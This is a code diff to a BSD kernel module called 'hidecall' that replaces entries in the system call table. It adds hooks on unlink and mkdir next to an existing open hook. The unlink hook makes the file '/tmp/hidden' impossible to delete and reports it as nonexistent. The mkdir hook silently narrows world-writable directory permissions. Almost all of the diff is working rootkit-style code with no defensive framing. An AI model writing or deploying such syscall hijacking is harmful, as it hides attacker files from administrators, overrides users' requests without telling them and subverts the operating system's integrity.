@@ -20,8 +20,9 @@
 extern struct sysent sysent[];
 extern int lkmexists __P((struct lkm_table *));
 
-static int (*old_open) __P((struct proc *, void *, register_t *));
+static int (*old_open)(), (*old_unlink)(), (*old_mkdir)();
 static int new_open __P((struct proc *, void *, register_t *));
+static int new_unlink(), new_mkdir();
 
 MOD_MISC("hidecall")
 
@@ -47,6 +48,33 @@ new_open(p, v, retval)
 	return ((*old_open)(p, v, retval));
 }
 
+/* Not to be removed, either. */
+static int
+new_unlink(p, uap, retval)
+	struct proc *p;
+	struct sys_unlink_args *uap;
+	register_t *retval;
+{
+	char path[64];
+
+	if (copyinstr(SCARG(uap, path), path, sizeof(path), NULL) == 0 &&
+	    strcasecmp(path, "/tmp/hidden") == 0)
+		return (ENOENT);
+	return ((*old_unlink)(p, uap, retval));
+}
+
+/* Whoever makes a folder for everybody makes it for himself. */
+static int
+new_mkdir(p, uap, retval)
+	struct proc *p;
+	struct sys_mkdir_args *uap;
+	int retval[];
+{
+	if (SCARG(uap, mode) == 0777)
+		SCARG(uap, mode) = 0700;
+	return ((*old_mkdir)(p, uap, retval));
+}
+
 static int
 hide(lkmtp, cmd)
 	struct lkm_table *lkmtp;
@@ -61,10 +89,16 @@ hide(lkmtp, cmd)
 		s = splhigh();
 		old_open = sysent[SYS_open].sy_call;
 		sysent[SYS_open].sy_call = (sy_call_t *)new_open;
+		old_unlink = sysent[SYS_unlink].sy_call;
+		sysent[SYS_unlink].sy_call = new_unlink;
+		old_mkdir = sysent[SYS_mkdir].sy_call;
+		sysent[SYS_mkdir].sy_call = new_mkdir;
 		splx(s);
 		break;
 	case LKM_E_UNLOAD:
 		sysent[SYS_open].sy_call = (sy_call_t *)old_open;
+		sysent[SYS_unlink].sy_call = old_unlink;
+		sysent[SYS_mkdir].sy_call = old_mkdir;
 		break;
 	}
 	return (0);
